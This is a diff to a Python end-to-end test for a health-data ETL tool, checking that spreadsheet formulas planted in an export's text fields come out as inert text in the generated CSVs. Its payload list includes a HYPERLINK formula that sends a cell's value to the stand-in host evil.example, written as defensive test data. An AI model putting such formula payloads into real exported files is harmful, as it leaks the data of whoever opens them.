@@ -6,25 +6,24 @@ An export whose sources, versions, devices, time zone and route name are formula
 spreadsheet program (Gnumeric's `ssconvert`, which `make test` installs) opening each CSV shows the
 text as written: nothing is computed. Numbers, including negative raw values, are left untouched.
 
-The binary is `HEALTHETL_BIN` (set by `make test-e2e`), else the debug build.
+The binary is `e2e.binary()`: `HEALTHETL_BIN` (set by `make test-e2e`), else the release build, else
+the debug build.
 """
 
 from __future__ import annotations
 
 import csv
-import os
 import shutil
 import subprocess
+import sys
 import tempfile
 import unittest
 from pathlib import Path
 
-REPO = Path(__file__).resolve().parents[2]
+sys.path.insert(0, str(Path(__file__).resolve().parent))
+from e2e import REPO, binary, csv_rows  # noqa: E402
+
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&B2, "Details")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)"]
-
-
-def binary() -> str:
-    return os.environ.get("HEALTHETL_BIN") or str(REPO / ".build/debug/healthetl")
 
 
 def attribute(text: str) -> str:
@@ -62,15 +61,14 @@ def cells(path: Path) -> list[str]:
 class CSVInjectionTests(unittest.TestCase):
     @classmethod
     def setUpClass(cls):
-        if not Path(binary()).exists():
-            raise unittest.SkipTest(f"no healthetl binary at {binary()}: run `swift build` or `make release` first")
+        healthetl = binary()
         cls.tmp = tempfile.TemporaryDirectory()
         root = Path(cls.tmp.name)
         export = root / "export.xml"
         export.write_text(hostile_export(), encoding="utf-8")
         cls.out = root / "out"
         for pipeline in ("default.json", "samples.json"):
-            run = subprocess.run([binary(), "run", "--quiet", "--pipeline", str(REPO / "Pipelines" / pipeline),
+            run = subprocess.run([healthetl, "run", "--quiet", "--pipeline", str(REPO / "Pipelines" / pipeline),
                                   "--no-workbook", "--out", str(cls.out / pipeline), str(export)],
                                  capture_output=True, text=True, timeout=300)
             assert run.returncode == 0, run.stderr
@@ -98,8 +96,7 @@ class CSVInjectionTests(unittest.TestCase):
         self.assertEqual({f for _, f in seen}, set(FORMULAS))
 
     def test_numbers_are_untouched(self):
-        with open(self.out / "samples.json/samples/AppleSleepingWristTemperature.csv", newline="", encoding="utf-8") as f:
-            rows = list(csv.DictReader(f))
+        rows = csv_rows(self.out / "samples.json/samples/AppleSleepingWristTemperature.csv")
         self.assertEqual((rows[0]["value"], rows[0]["raw_value"]), ("-1", "-1"))
         self.assertEqual(rows[0]["source"], "'+1+1")
 
